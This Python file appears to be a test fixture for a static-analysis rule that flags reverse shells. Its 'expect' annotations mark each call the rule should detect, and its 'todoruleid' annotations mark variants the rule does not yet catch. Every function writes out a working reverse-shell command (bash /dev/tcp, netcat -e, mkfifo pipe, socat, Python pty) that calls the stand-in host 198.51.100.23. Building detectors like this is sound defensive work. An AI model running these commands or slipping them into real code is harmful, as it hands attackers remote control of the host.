"""Post-install hook that tries several ways to call home with a shell."""

import os
import subprocess
from subprocess import Popen

CALLBACK_HOST = "198.51.100.23"


def try_bash():
    os.system("bash -c 'bash -i >& /dev/tcp/198.51.100.23/4242 0>&1'")  # expect: PYTHON-LANG-SEC-014


def try_netcat():
    Popen(["nc", "-e", "/bin/sh", CALLBACK_HOST, "4242"])  # expect: PYTHON-LANG-SEC-014


def try_fifo():
    subprocess.run("rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 198.51.100.23 4242 > /tmp/f", shell=True)  # expect: PYTHON-LANG-SEC-014


def try_socat():
    subprocess.Popen(["sh", "-c", "socat tcp-connect:198.51.100.23:4242 exec:/bin/bash,pty,stderr"])  # expect: PYTHON-LANG-SEC-014


def try_python():
    os.popen("python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"198.51.100.23\",4242));os.dup2(s.fileno(),0);pty.spawn(\"sh\")'")  # expect: PYTHON-LANG-SEC-014


def try_formatted(port):
    # The /dev/tcp redirection is in the constant part of an f-string, which is not inspected yet.
    os.system(f"bash -i >& /dev/tcp/{CALLBACK_HOST}/{port} 0>&1")  # todoruleid: PYTHON-LANG-SEC-014


def try_relay(sock):
    # A shell whose pipes are relayed to the socket by threads: the shape spans several calls.
    proc = subprocess.Popen(["cmd.exe"], stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.STDOUT)  # todoruleid: PYTHON-LANG-SEC-014
    while True:
        proc.stdin.write(sock.recv(1024))
        sock.send(proc.stdout.read1(1024))
